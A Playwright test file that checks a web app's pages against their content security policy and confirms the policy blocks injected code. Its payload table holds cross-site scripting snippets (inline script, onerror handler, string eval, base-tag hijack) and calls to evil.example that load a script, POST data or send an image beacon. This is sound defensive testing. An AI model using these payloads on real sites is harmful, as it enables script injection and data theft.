"""The pages work under their content security policy, and it stops what it must.

Every other browser test fails on a violation, too: see `tests.conftest.Complaints`.
"""

from collections.abc import Callable

import pytest
from PIL import Image
from playwright.sync_api import Page, expect

from tests.browser.digits_page import wait_until_live
from tests.browser.filters_page import UPLOAD, upload
from tests.browser.live_traffic import settle
from tests.pictures import encoded

PAGES = ("/", "/digits", "/photos", "/training")
THEMES = ("light", "dark")
STOPPED = {
    "text that runs": ("async () => { await 0; setTimeout('globalThis.harm = 1'); }", "script-src"),
    "a script in the page": (
        "() => { const script = document.createElement('script');"
        " script.textContent = 'globalThis.harm = 1'; document.body.append(script); }",
        "script-src",
    ),
    "a handler in the page": (
        "() => { document.body.insertAdjacentHTML('beforeend',"
        ' \'<img src="data:," onerror="globalThis.harm = 1">\'); }',
        "script-src",
    ),
    "a script of another site": (
        "() => { const script = document.createElement('script');"
        " script.src = 'https://evil.example/a.js'; document.body.append(script); }",
        "script-src",
    ),
    "a letter to another site": (
        "() => { fetch('https://evil.example/', { method: 'POST' }).catch(() => {}); }",
        "connect-src",
    ),
    "a picture of another site": (
        "() => { new Image().src = 'https://evil.example/?told'; }",
        "img-src",
    ),
    "a page in the page": (
        "() => { const frame = document.createElement('iframe');"
        " frame.src = 'https://evil.example/'; document.body.append(frame); }",
        "frame-src",
    ),
    "another base": (
        "() => { const base = document.createElement('base');"
        " base.href = 'https://evil.example/'; document.head.append(base); }",
        "base-uri",
    ),
}


@pytest.mark.parametrize("theme", THEMES)
@pytest.mark.parametrize("path", PAGES)
def test_each_page_works_without_a_violation(open_page: Callable[..., Page], path: str, theme: str):
    page = open_page(path, theme=theme)
    if path == "/training":
        expect(page.get_by_role("button", name="Train", exact=True)).to_be_enabled()
    else:
        wait_until_live(page)
        settle(page)


@pytest.mark.parametrize("theme", THEMES)
def test_uploads_camera_and_downloads_work_without_a_violation(
    open_page: Callable[..., Page], theme: str
):
    page = open_page(UPLOAD, theme=theme)
    wait_until_live(page)
    upload(page, encoded(Image.new("RGB", (40, 30), "red")))
    expect(page.get_by_text("Your picture")).to_be_visible()
    with page.expect_download():
        page.get_by_role("button", name="Save numbers (.npz)").click()
    page.get_by_role("radio", name="Camera").click()
    expect(page.locator("video")).to_have_js_property("readyState", 4)
    page.get_by_role("button", name="Take Photo").click()
    expect(page.get_by_text("Your photograph")).to_be_visible()


@pytest.mark.parametrize(("script", "directive"), STOPPED.values(), ids=STOPPED.keys())
def test_the_policy_stops(open_page: Callable[..., Page], complaints, script: str, directive: str):
    complaints.allow(r"Content Security Policy|policy: |EvalError")
    page = open_page("/digits")
    with page.expect_console_message(lambda message: f"policy: {directive}" in message.text):
        page.evaluate(script)
    assert page.evaluate("globalThis.harm") is None
